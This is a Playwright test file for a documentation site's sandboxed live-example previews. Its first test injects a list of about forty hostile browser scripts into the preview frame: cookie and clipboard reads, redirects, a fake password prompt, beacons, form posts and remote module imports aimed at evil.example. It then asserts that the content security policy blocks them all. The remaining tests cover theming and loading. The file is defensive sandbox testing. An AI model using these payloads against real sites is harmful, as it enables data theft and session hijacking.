import { createHash } from 'node:crypto'
import { expect, test } from './reader'

const example = '/query/latest/docs/framework/react/examples/basic'
const frameAddress = '/frames/example/query/latest/react/basic'

/** Attacks of a hostile example: each script replaces that of the example, and has all of its permissions. */
const attacks = {
  'read cookies': 'document.cookie',
  'read the page around it': 'parent.document.title',
  'change the page around it': "parent.location.hash = '#taken'",
  'lead the window elsewhere': "top.location = 'https://evil.example/'",
  'lead the window elsewhere by a link':
    "const a = Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_top' }); document.body.append(a); a.click(); throw 0",
  'open a window': "if (!open('https://evil.example/')) throw 0",
  'ask the site': "await fetch('/api/health')",
  'ask another site': "await fetch('https://evil.example/')",
  'ask by a socket':
    "await new Promise((ok, no) => Object.assign(new WebSocket('wss://evil.example/'), { onopen: ok, onerror: no }))",
  'ask by events':
    "await new Promise((ok, no) => Object.assign(new EventSource('https://evil.example/'), { onopen: ok, onerror: no }))",
  'ask another browser': 'new RTCPeerConnection()',
  'run a script in a frame':
    "const f = Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.postMessage(typeof RTCPeerConnection, \"*\")<\\/script>' }); const sent = new Promise((ok) => addEventListener('message', ({ data }) => data === 'function' && ok())); document.body.append(f); await sent",
  'send a form':
    "const f = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post', target: '_top' }); document.body.append(f); f.submit(); throw 0",
  'prefetch a page':
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://evil.example/' })); throw 0",
  'import a style sheet':
    "document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(https://evil.example/a.css)' })); throw 0",
  'change the base of links':
    "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })); if (document.baseURI.includes('evil')) return; throw 0",
  'share a worker': "new SharedWorker(URL.createObjectURL(new Blob([''])))",
  'load a paint worklet': "await CSS.paintWorklet.addModule('data:text/javascript,1')",
  'read the name of the window': 'top.name',
  'change the history of the page': "parent.history.replaceState(null, '', '/taken')",
  'open the file system': 'await navigator.storage.getDirectory()',
  'lock other tabs out': "await navigator.locks.request('x', () => 1)",
  'fill the screen': 'await document.documentElement.requestFullscreen()',
  'see the camera': 'await navigator.mediaDevices.getUserMedia({ video: true })',
  'ask by an image':
    "await new Promise((ok, no) => Object.assign(new Image(), { onload: ok, onerror: no }).src = '/favicon.ico')",
  // Detected outside the frame.
  'send a beacon': "navigator.sendBeacon('https://evil.example/'); throw 0",
  'load a script':
    "await new Promise((ok, no) => document.head.append(Object.assign(document.createElement('script'), { src: '/_build/x.js', onload: ok, onerror: no })))",
  'import a module': "await import('https://evil.example/x.js')",
  'import a module of a text': "await import('data:text/javascript,export default 1')",
  'make code of a text': "(0, eval)('1')",
  'make a function of a text': "new Function('1')()",
  'compile WebAssembly': 'await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
  'start workers':
    "await new Promise((ok, no) => Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: ok, onerror: no }))",
  'register a service worker': "await navigator.serviceWorker.register('/sw.js')",
  'open a database':
    "await new Promise((ok, no) => Object.assign(indexedDB.open('x'), { onsuccess: ok, onerror: no }))",
  'open the cache': "await caches.open('x')",
  'frame another site':
    "const f = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/frame' }); document.body.append(f); await new Promise((ok) => setTimeout(ok, 300)); throw 0",
  'show a dialog': "if (!confirm('Your password?')) throw 0",
  'read the clipboard': 'await navigator.clipboard.readText()',
  'find the place': 'await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))',
}

test.describe('a hostile example', () => {
  // The browser logs what it blocks.
  test.use({ expectedMessages: [/./] })

  test('cannot access anything outside its frame', async ({ page }) => {
    const tries = Object.entries(attacks).map(
      ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`,
    )
    const script = `(async () => {
    const attempt = async (name, act) => {
      const late = new Promise((_, refuse) => setTimeout(refuse, 1500))
      await Promise.race([act(), late]).then(() => console.error('REACHED ' + name), () => {})
    }
    ${tries.join('\n')}
    document.body.dataset.done = ''
  })()`
    const asked: string[] = []
    // A request blocked by the policy is reported, but never finishes.
    page.on('requestfinished', (request) => asked.push(request.url()))
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') asked.push(request.url())
    })
    await page.route(`**${frameAddress}`, async (route) => {
      const response = await route.fetch()
      const [head] = (await response.text()).split('<body>')
      const policy = response.headers()['content-security-policy'] ?? ''
      const hash = createHash('sha256').update(script).digest('base64')
      await route.fulfill({
        response,
        headers: {
          ...response.headers(),
          'content-security-policy': policy.replace('script-src', `$& 'sha256-${hash}'`),
        },
        body: `${head}<body><script>${script}</script></body></html>`,
      })
    })
    await page.goto(`${example}?panel=preview`)
    const frame = page.frameLocator('iframe[title="Preview"]')
    await expect(frame.locator('body[data-done]')).toBeAttached({ timeout: 25_000 })
    expect(
      await frame.locator('#S--console [data-kind="error"]', { hasText: 'REACHED' }).allTextContents(),
    ).toEqual([])
    const blocked = page.evaluate(
      () =>
        new Promise((resolve) => {
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
        }),
    )
    await frame.locator('body').evaluate(() => setTimeout(() => location.assign('https://evil.example/')))
    expect(await blocked).toBe('frame-src')
    expect(page.url()).toContain(`${example}?panel=preview`)
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
  })
})

test('an example runs, reloads and stops, using only its own files and no script of the page', async ({
  page,
}) => {
  await page.goto(example)
  await page.getByRole('link', { name: 'Preview', exact: true }).click()
  const frame = page.frameLocator('iframe[title="Preview"]')
  await expect(frame.getByRole('heading', { name: 'Posts' })).toBeVisible()
  await page.getByRole('link', { name: 'Stop' }).click()
  await expect(frame.getByRole('heading', { name: 'Posts' })).toHaveCount(0)
  await page.getByRole('link', { name: 'Reload' }).click()
  await expect(frame.getByRole('heading', { name: 'Posts' })).toBeVisible()
  for (const framework of ['vue', 'svelte', 'solid']) {
    await page.goto(frameAddress.replace('react', framework))
    await expect(page.getByRole('heading', { name: 'Posts' })).toBeVisible()
    await expect(page.locator('#S--versions')).toContainText(`@tanstack/${framework}-query`)
  }
})

test('an example for Angular has its inputs, queries and changes', async ({ page }) => {
  await page.goto('/frames/example/store/latest/angular/simple')
  await page.getByRole('button', { name: 'Add one' }).first().click()
  await expect(page.getByText('rolls: 1')).toBeVisible()
  await page.goto('/frames/example/virtual/latest/angular/dynamic')
  await expect(page.getByRole('listitem').first()).toBeVisible()
  await page.goto('/frames/example/form/latest/angular/simple')
  await page.getByRole('textbox', { name: 'First name' }).focus()
  await page.keyboard.press('Tab')
  await page.getByRole('button', { name: 'Send' }).click()
  await expect(page.getByText('A first name is required')).toBeVisible()
})

test('a preview has the theme that the reader chose, whatever the system prefers', async ({ page }) => {
  await page.emulateMedia({ colorScheme: 'dark' })
  await page.goto(`${example}?panel=preview`)
  const frame = page.frameLocator('#S--preview iframe').locator('html')
  await expect(frame).toHaveCSS('color-scheme', 'light dark')
  await page.getByRole('button', { name: 'Light', exact: true }).click()
  await expect(frame).toHaveCSS('color-scheme', 'light')
  await page.reload()
  await expect(frame).toHaveCSS('color-scheme', 'light')
})

for (const { place, address } of [
  { place: 'a guide', address: '/query/latest/docs/framework/react/guides/paginated-queries' },
  { place: 'a landing page', address: '/query/latest' },
])
  test(`an example on ${place} has the theme that the reader chose, also while it runs`, async ({ page }) => {
    await page.emulateMedia({ colorScheme: 'dark' })
    await page.goto(address)
    await page.getByRole('button', { name: 'Light', exact: true }).click()
    await page.locator('.runs > summary').click()
    const frame = page.frameLocator('.runs iframe').locator('html')
    await expect(frame).toHaveCSS('color-scheme', 'light')
    await page.getByRole('button', { name: 'Dark', exact: true }).click()
    await expect(frame).toHaveCSS('color-scheme', 'dark')
  })

test('an example in a guide loads when it is opened, by keys too', async ({ page }) => {
  const asked: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('/frames/example/')) asked.push(request.url())
  })
  await page.goto('/query/latest/docs/framework/react/guides/paginated-queries')
  const opener = page.locator('.runs > summary')
  await opener.scrollIntoViewIfNeeded()
  await opener.focus()
  expect(asked).toEqual([])
  await page.keyboard.press('Enter')
  const inside = page.frameLocator('.runs iframe')
  await expect(inside.getByText('Message 1', { exact: true })).toBeVisible()
  await inside.getByRole('button', { name: 'Older' }).click()
  await expect(inside.getByText('Page 2')).toBeVisible()
  await page.getByRole('link', { name: 'Stop' }).click()
  await expect(inside.getByText('Page 2')).toHaveCount(0)
  await page.getByRole('link', { name: 'Reload' }).click()
  await expect(inside.getByText('Page 1')).toBeVisible()
})

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false })

  test('an example in a guide shows its code and a link', async ({ page }) => {
    await page.goto('/query/latest/docs/framework/react/guides/paginated-queries')
    await expect(page.getByText('src/messages.tsx')).toBeVisible()
    await expect(page.getByRole('link', { name: /^All files of the example/ })).toBeVisible()
    await expect(page.locator('.runs')).toBeHidden()
  })
})
